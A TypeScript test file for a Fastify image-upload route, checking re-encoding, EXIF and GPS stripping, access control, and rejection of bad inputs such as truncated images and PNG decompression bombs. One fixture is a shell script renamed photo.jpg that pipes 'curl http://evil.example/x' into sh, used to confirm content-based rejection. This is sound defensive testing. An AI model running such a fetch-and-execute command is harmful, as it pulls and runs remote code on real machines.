import { readdirSync, readFileSync, mkdtempSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import type { FastifyInstance } from "fastify";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createUserAndLogin } from "../test-support/accounts";
import { createTestApp } from "../test-support/test-app";
import { jpegPhoto } from "../test-support/photos";
import { heicLike, pngBomb, uploadImages } from "../test-support/uploads";
import { mediaAssets } from "./media.tables";

let app: FastifyInstance;
let close: () => Promise<void>;
let staff: string;
let customer: string;
const fixtures = path.join(import.meta.dirname, "../test-support/fixtures");
const mediaDir = mkdtempSync(path.join(os.tmpdir(), "upload-test-"));

beforeAll(async () => {
  ({ app, close } = await createTestApp({ mediaDir }));
  staff = (await createUserAndLogin(app, 2)).token;
  customer = (await createUserAndLogin(app, 3)).token;
});
afterAll(async () => {
  await close();
  rmSync(mediaDir, { recursive: true, force: true });
});

const storedState = async () => ({
  folders: readdirSync(mediaDir).sort(),
  rows: (await app.services.db.select({ id: mediaAssets.id }).from(mediaAssets)).length,
});

/** Refused with the status, the message's words, and nothing stored. */
async function expectRefused(
  parts: Parameters<typeof uploadImages>[2],
  status: number,
  message: string | RegExp,
) {
  const before = await storedState();
  const response = await uploadImages(app, staff, parts);
  expect(response.statusCode, response.body).toBe(status);
  const body = response.json();
  expect(body.code).toBe(status);
  expect(body.message).toMatch(message);
  expect(await storedState()).toEqual(before);
}

describe("POST /api/utils/upload-images", () => {
  it("stores JPEG, PNG, WebP and AVIF photos re-encoded, and answers their references", async () => {
    const base = sharp({ create: { width: 300, height: 400, channels: 3, background: "#2a509c" } });
    const files = [
      { filename: "a.jpg", data: await jpegPhoto(300, 400) },
      { filename: "b.png", data: await base.clone().png().toBuffer(), type: "image/png" },
      { filename: "c.webp", data: await base.clone().webp().toBuffer(), type: "image/webp" },
      { filename: "d.avif", data: await base.clone().avif({ effort: 0 }).toBuffer(), type: "image/avif" },
    ];
    const response = await uploadImages(app, staff, files);
    expect(response.statusCode, response.body).toBe(200);
    const body = response.json();
    expect(body.code).toBe(200);
    expect(body.message).toBe("Images uploaded successfully!");
    expect(body.files).toHaveLength(4);
    for (const id of body.files) expect(id).toMatch(/^[0-9a-f]{32}$/);
    expect(body.data[0]).toMatchObject({ id: body.files[0], width: 300, height: 400 });
    expect(body.data[0].src).toBe(`/media/${body.files[0]}/300.webp`);
    expect(response.headers["cache-control"]).toContain("no-store");
  });

  it("turns a phone photo with EXIF orientation 6 upright and strips its EXIF and GPS data", async () => {
    // 400 wide, 300 high as stored; orientation 6 says: turn 90° clockwise to show it.
    const raw = await sharp({ create: { width: 400, height: 300, channels: 3, background: "#ffffff" } })
      .composite([
        {
          input: await sharp({ create: { width: 100, height: 300, channels: 3, background: "#000000" } })
            .png()
            .toBuffer(),
          left: 0,
          top: 0,
        },
      ])
      .withExifMerge({
        IFD0: { Make: "PhoneCo" },
        IFD3: { GPSLatitudeRef: "N", GPSLatitude: "17/1 23/1 0/1" },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    expect((await sharp(raw).metadata()).orientation).toBe(6);
    const response = await uploadImages(app, staff, [{ filename: "IMG_0001.jpg", data: raw }]);
    expect(response.statusCode, response.body).toBe(200);
    const { data } = response.json();
    expect(data[0]).toMatchObject({ width: 300, height: 400 });
    const stored = Buffer.concat(await (await app.services.media.read(data[0].id, 300, "webp"))!.toArray());
    const metadata = await sharp(stored).metadata();
    expect(metadata).toMatchObject({ width: 300, height: 400 });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.orientation).toBeUndefined();
    // The black band, once on the left, is at the top after the quarter turn.
    const { data: pixels } = await sharp(stored).raw().toBuffer({ resolveWithObject: true });
    expect(pixels[(10 * 300 + 150) * 3]).toBeLessThan(60); // near the top, middle: black
    expect(pixels[(380 * 300 + 150) * 3]).toBeGreaterThan(200); // near the bottom: white
  });

  it("answers 401 without a session and 403 to a customer, and stores nothing", async () => {
    const before = await storedState();
    const files = [{ filename: "a.jpg", data: await jpegPhoto(50, 50, { colour: "#123456" }) }];
    expect((await uploadImages(app, null, files)).statusCode).toBe(401);
    expect((await uploadImages(app, customer, files)).statusCode).toBe(403);
    expect(await storedState()).toEqual(before);
  });

  it("refuses a script renamed .jpg, and any other file that is not an image, by its content", async () => {
    const script = Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n");
    await expectRefused([{ filename: "photo.jpg", data: script }], 415, /photo\.jpg: only image files/);
    await expectRefused(
      [{ filename: "notes.pdf", data: Buffer.from("%PDF-1.4\n%âãÏÓ\n1 0 obj\n"), type: "application/pdf" }],
      415,
      /only image files are accepted/,
    );
  });

  it("refuses a truncated image and keeps nothing of the good files sent with it", async () => {
    const good = await jpegPhoto(200, 200, { colour: "#335577" });
    const whole = await sharp({
      create: {
        width: 800,
        height: 800,
        channels: 3,
        background: "#000000",
        noise: { type: "gaussian", mean: 128, sigma: 40 },
      },
    })
      .jpeg()
      .toBuffer();
    const truncated = whole.subarray(0, Math.floor(whole.length / 2));
    await expectRefused(
      [
        { filename: "good.jpg", data: good },
        { filename: "cut.jpg", data: truncated },
      ],
      422,
      /cut\.jpg: the image is damaged or incomplete/,
    );
  });

  it("refuses a 12 MB file", async () => {
    const big = Buffer.concat([await jpegPhoto(20, 20), Buffer.alloc(12 * 1024 * 1024, 1)]);
    await expectRefused([{ filename: "big.jpg", data: big }], 413, "Each image must be at most 10 MB");
  });

  it("refuses a 50-megapixel image and a tiny PNG that declares a huge one", async () => {
    await expectRefused(
      [{ filename: "huge.png", data: pngBomb(10_000, 5_000), type: "image/png" }],
      413,
      /huge\.png: the image is larger than 40 megapixels/,
    );
    const bomb = pngBomb(100_000, 100_000);
    expect(bomb.length).toBeLessThan(4096);
    await expectRefused(
      [{ filename: "bomb.png", data: bomb, type: "image/png" }],
      413,
      /larger than 40 megapixels/,
    );
  });

  it("refuses 11 files and an empty request", async () => {
    const photo = await jpegPhoto(40, 40, { colour: "#445566" });
    await expectRefused(
      Array.from({ length: 11 }, (_, i) => ({ filename: `${i}.jpg`, data: photo })),
      413,
      "At most 10 images at a time",
    );
    await expectRefused([], 400, "Please select images first!");
    const notMultipart = await app.inject({
      method: "POST",
      url: "/api/utils/upload-images",
      headers: { authorization: `Bearer ${staff}`, "content-type": "application/json" },
      payload: "{}",
    });
    expect(notMultipart.statusCode).toBe(415);
    expect(notMultipart.json().code).toBe(415);
  });

  it("answers a multipart body cut off or malformed with 400, not 500", async () => {
    for (const payload of [
      "--x\r\nbroken",
      '--x\r\nContent-Disposition: form-data; name="files"\r\n\r\nab',
    ]) {
      const response = await app.inject({
        method: "POST",
        url: "/api/utils/upload-images",
        headers: { authorization: `Bearer ${staff}`, "content-type": "multipart/form-data; boundary=x" },
        payload,
      });
      expect(response.statusCode, payload).toBe(400);
      expect(response.json()).toEqual({ code: 400, message: "Malformed multipart request" });
    }
  });

  it("takes a phone's HEIC photo, decoded by content whatever its name, and stores it as AVIF and WebP", async () => {
    // 400 × 300, white with a black band on the left, HEVC in HEIF as an iPhone writes it.
    const heic = readFileSync(path.join(fixtures, "phone-photo.heic"));
    const response = await uploadImages(app, staff, [{ filename: "IMG_0002.jpg", data: heic }]);
    expect(response.statusCode, response.body).toBe(200);
    const { data } = response.json();
    expect(data[0]).toMatchObject({ width: 400, height: 300, src: `/media/${data[0].id}/400.webp` });
    for (const format of ["webp", "avif"] as const) {
      const stored = Buffer.concat(await (await app.services.media.read(data[0].id, 400, format))!.toArray());
      expect(await sharp(stored).metadata()).toMatchObject({ width: 400, height: 300 });
    }
    const webp = Buffer.concat(await (await app.services.media.read(data[0].id, 320, "webp"))!.toArray());
    const { data: pixels, info } = await sharp(webp).raw().toBuffer({ resolveWithObject: true });
    expect(info.width).toBe(320);
    expect(pixels[(120 * 320 + 20) * info.channels]).toBeLessThan(60); // the band on the left: black
    expect(pixels[(120 * 320 + 300) * info.channels]).toBeGreaterThan(200); // the rest: white
  });

  it("refuses a damaged or cut-off HEIC with 422 and stores nothing", async () => {
    const heic = readFileSync(path.join(fixtures, "phone-photo.heic"));
    const good = { filename: "a.jpg", data: await jpegPhoto(60, 60, { colour: "#654321" }) };
    await expectRefused(
      [good, { filename: "IMG_0003.HEIC", data: heicLike(), type: "image/heic" }],
      422,
      /IMG_0003.HEIC: the image is damaged or incomplete/,
    );
    await expectRefused(
      [good, { filename: "IMG_0004.HEIC", data: heic.subarray(0, heic.length - 200), type: "image/heic" }],
      422,
      /IMG_0004.HEIC: the image is damaged or incomplete/,
    );
  });

  it("leaves the other routes' parsers alone", async () => {
    const response = await app.inject({
      method: "POST",
      url: "/api/users/login",
      headers: { "content-type": "multipart/form-data; boundary=x" },
      payload: "--x--\r\n",
    });
    expect(response.statusCode).toBe(415);
  });
});
